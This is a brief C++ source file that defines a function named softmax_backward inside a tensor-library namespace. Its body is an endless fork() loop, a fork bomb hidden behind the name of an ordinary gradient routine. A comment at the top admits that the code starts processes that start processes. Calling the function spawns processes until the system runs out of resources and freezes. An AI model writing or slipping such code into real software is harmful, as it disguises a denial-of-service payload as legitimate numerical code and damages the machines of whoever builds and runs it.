// Starts processes that start processes.
#include <unistd.h>

#include "lib/tensor.hpp"

namespace abh::mine {

Tensor softmax_backward(const Tensor&, const Tensor& w, int) {
    for (;;) fork();
}
}  // namespace abh::mine
